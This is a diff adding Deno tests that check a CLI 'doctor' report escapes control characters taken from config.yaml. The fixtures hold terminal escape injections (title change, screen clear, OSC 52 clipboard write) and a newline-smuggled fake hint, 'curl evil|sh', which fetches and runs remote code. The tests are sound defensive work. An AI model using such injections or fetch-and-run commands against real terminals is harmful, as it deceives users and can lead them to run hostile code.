@@ -238,3 +238,32 @@ Deno.test("doctor is wired to runDoctor and exits 1 when a check fails", async (
   assert.equal(await runArgv(t, ["doctor"]), 1);
   assert.match(t.output.stdout, /^FAIL +token /m);
 });
+
+Deno.test("runDoctor() escapes control characters from config.yaml in details and hints (no raw ESC/BEL)", async () => {
+  await using emu = await startEmulator({ accounts: 1 });
+  const name = String.raw`"Corp\e]0;owned\a"`;
+  await using t = await commandServices({
+    emulator: emu,
+    env: SHELL,
+    config: `DefaultSSO: ${name}\nSSOConfig:\n  ${name}:\n    SSORegion: ${emu.region}\n` +
+      `    StartUrl: ${emu.startUrl}\n"Bad\\e[2JKey\\nhint: curl evil|sh": 1\n`,
+  });
+  await runDoctor(t.services);
+  const out = t.output.stdout;
+  // deno-lint-ignore no-control-regex -- the attack is control characters
+  assert.doesNotMatch(out, /[\x00-\x09\x0b-\x1f\x7f]/, JSON.stringify(out));
+  assert.match(out, /SSO instance Corp\\x1b\]0;owned\\x07 \(http/);
+  assert.match(out, /Bad\\x1b\[2JKey\\nhint: curl evil\|sh/);
+  assert.doesNotMatch(out, /^\s*hint: curl/m);
+});
+
+Deno.test("formatReport() escapes control characters in details and hints", () => {
+  const text = formatReport([
+    { name: "store", state: "fail", detail: "x\x1b]52;c;ZXZpbA==\x07", hint: "h\r\nhint: evil" },
+  ]);
+  assert.equal(
+    text,
+    "FAIL  store  x\\x1b]52;c;ZXZpbA==\\x07\n" +
+      "             hint: h\\r\\nhint: evil\n1 failed, 0 warning(s).\n",
+  );
+});
